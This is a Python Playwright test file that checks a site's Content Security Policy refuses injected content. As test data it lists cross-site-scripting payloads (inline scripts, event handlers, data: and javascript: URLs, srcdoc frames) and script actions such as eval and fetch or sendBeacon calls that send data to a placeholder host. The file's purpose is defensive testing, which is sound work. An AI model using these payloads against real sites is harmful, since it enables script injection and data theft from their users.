"""The Content Security Policy at work: what a page refuses, and that a test would notice."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, Route

from site_browser import PREFIX, Visitor

_ELSEWHERE = "https://elsewhere.example"
#: What somebody might bring into a page, by what it tries.
MARKUP = {
    "an inline script": "<script>window.__pwned = 1</script>",
    "a module": '<script type="module">window.__pwned = 1</script>',
    "a handler": '<img src="missing" onerror="window.__pwned = 1">',
    "a handler of a drawing": '<svg onload="window.__pwned = 1"></svg>',
    "a script from elsewhere": f'<script src="{_ELSEWHERE}/a.js"></script>',
    "a script in an address": '<script src="data:text/javascript,window.__pwned=1"></script>',
    "a frame": f'<iframe src="{_ELSEWHERE}"></iframe>',
    "a frame with a text": '<iframe srcdoc="&lt;script>parent.__pwned = 1&lt;/script>"></iframe>',
    "an object": f'<object data="{_ELSEWHERE}"></object>',
    "a picture from elsewhere": f'<img src="{_ELSEWHERE}/a.png">',
    "a style sheet from elsewhere": f'<link rel="stylesheet" href="{_ELSEWHERE}/a.css">',
    "a style element": "<style>body { display: none }</style>",
    "another base": f'<base href="{_ELSEWHERE}/">',
}
#: What a script that should not be there might do.
ACTS = {
    "text as code": "try { eval('window.__pwned = 1') } catch {}",
    "text as a function": "try { new Function('window.__pwned = 1')() } catch {}",
    "a timer of text": "setTimeout('window.__pwned = 1')",
    "sending": f"fetch('{_ELSEWHERE}/?all').catch(() => {{}})",
    "a beacon": f"navigator.sendBeacon('{_ELSEWHERE}', 'all')",
    "a form": f"""{{
        const form = document.createElement('form');
        form.action = '{_ELSEWHERE}';
        document.body.append(form);
        form.submit();
    }}""",
    "a worker of text": "try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch {}",
    "a module from elsewhere": f"import('{_ELSEWHERE}/a.js').catch(() => {{}})",
    "an address that is a script": """{
        const link = document.createElement('a');
        link.href = 'javascript:window.__pwned = 1';
        document.body.append(link);
        link.click();
    }""",
}


def _brought_in(visit: Visitor, text: str, path: str = "en/services/") -> Page:
    """Open a page into which somebody brought more than the site put there."""

    def bring(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("<main", f"{text}<main", 1))

    page = visit.nowhere()
    page.route(re.compile(re.escape(PREFIX + path) + "$"), bring)
    page.goto(visit.server.home + path)
    return page


def _assert_refused(visit: Visitor, page: Page) -> None:
    """The visitor has noted that the policy refused something, and nothing has run."""
    page.wait_for_timeout(200)
    noted, visit.problems[:] = "\n".join(visit.problems), []
    assert "Content Security Policy" in noted, noted or "nothing was reported"
    assert page.evaluate("window.__pwned") is None
    assert page.url.startswith(visit.server.home)
    assert page.locator("main").is_visible()


@pytest.mark.parametrize("text", MARKUP.values(), ids=MARKUP.keys())
def test_what_is_brought_into_a_page_does_nothing_and_is_reported(
    visit: Visitor, text: str
) -> None:
    _assert_refused(visit, _brought_in(visit, text))


@pytest.mark.parametrize("act", ACTS.values(), ids=ACTS.keys())
def test_what_a_script_would_do_is_refused_and_reported(visit: Visitor, act: str) -> None:
    page = visit.anew("en/services/")
    # As a script of the page and not as one of the test, to which the policy does not apply.
    page.route("**/act.js", lambda route: route.fulfill(body=act, content_type="text/javascript"))
    page.evaluate("""() => {
        const script = document.createElement('script');
        script.src = new URL('act.js', location.href);
        document.head.append(script);
    }""")
    _assert_refused(visit, page)


def test_a_page_as_it_is_breaks_no_rule(visit: Visitor) -> None:
    page = _brought_in(visit, "<p>harmless</p>")
    assert page.locator("body > div > p, body p").first.is_visible()


@pytest.mark.parametrize("path", ["", "404.html"])
def test_the_one_inline_script_runs(visit: Visitor, path: str) -> None:
    page = visit.anew(path)
    page.evaluate("localStorage.setItem('mle-notes:theme', 'dark')")
    page.reload()
    assert page.locator("html").get_attribute("data-theme") == "dark"
    assert page.locator("html").get_attribute("class") == "js"
